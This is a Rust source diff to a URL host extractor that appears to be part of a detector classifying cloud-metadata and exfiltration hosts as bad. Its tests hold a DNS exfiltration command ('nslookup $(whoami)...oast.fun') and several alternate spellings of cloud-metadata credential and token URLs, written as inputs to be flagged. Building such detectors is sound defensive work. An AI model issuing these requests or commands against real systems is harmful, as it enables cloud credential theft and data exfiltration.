@@ -75,6 +75,10 @@ pub fn urls_in(text: &str) -> Vec<String> {
     }
 }
 
+/// Names without a dot that are hosts wherever they are used: loopback, and the
+/// short name cloud VMs resolve to their metadata service.
+const SINGLE_LABEL_HOSTS: &[&str] = &["localhost", "metadata"];
+
 /// The host of a URL (`https://user@Host:443/x` → `host`), or of a bare
 /// `host/path`, in canonical form.
 pub fn host_of(url: &str) -> Option<String> {
@@ -86,6 +90,12 @@ pub fn host_of(url: &str) -> Option<String> {
     // Browsers and curl read `\` as `/` in http URLs.
     let auth = rest.split(['/', '?', '#', '\\']).next()?;
     let auth = auth.rsplit('@').next()?;
+    // `http://169.254.170.2$CREDS_PATH`: an address written out, then an expansion
+    // (the rest of the URL); only a literal address before it names the host.
+    let (auth, expanded) = match auth.find(['$', '`']) {
+        Some(i) => (&auth[..i], true),
+        None => (auth, false),
+    };
     let host = if let Some(v6) = auth.strip_prefix('[') {
         v6.split(']').next()?.to_string()
     } else if auth.matches(':').count() > 1 {
@@ -94,12 +104,18 @@ pub fn host_of(url: &str) -> Option<String> {
         auth.split(':').next()?.to_string()
     };
     let h = host::canonical(&host)?;
+    if expanded && h.ip.is_none() {
+        return None;
+    }
     let name = h.name;
     let ok = !name.is_empty()
         && name
             .chars()
             .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-' || c == ':' || c == '_')
-        && (name.contains('.') || name.contains(':') || name == "localhost" || h.ip.is_some());
+        && (name.contains('.')
+            || name.contains(':')
+            || SINGLE_LABEL_HOSTS.contains(&name.as_str())
+            || h.ip.is_some());
     if ok {
         Some(name)
     } else {
@@ -169,5 +185,24 @@ mod tests {
         assert!(!e[0].sends);
         let e = eps("nslookup $(whoami).x.oast.fun");
         assert!(e.iter().any(|x| x.sends && x.host == "oast.fun"));
+    }
+
+    #[test]
+    fn cloud_metadata_in_its_other_spellings_is_known_bad() {
+        let t = tax();
+        for url in [
+            "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
+            "http://metadata/computeMetadata/v1/instance/service-accounts/default/token",
+            "http://[fd00:ec2::254]/latest/meta-data/",
+            "http://169.254.169.254.nip.io/latest/meta-data/",
+            "http://a9fea9fe.nip.io/latest/user-data",
+        ] {
+            let h = host_of(url).unwrap_or_default();
+            assert_eq!(classify(&h, &t), HostClass::Bad, "{url} -> {h}");
+        }
+        // a whole host from an expansion is not guessed; plain short names are not hosts
+        assert_eq!(host_of("http://$HOST/x"), None);
+        assert_eq!(host_of("http://api:8000/v1"), None);
+        assert_eq!(classify("127.0.0.1.nip.io", &t), HostClass::Loopback);
     }
 }
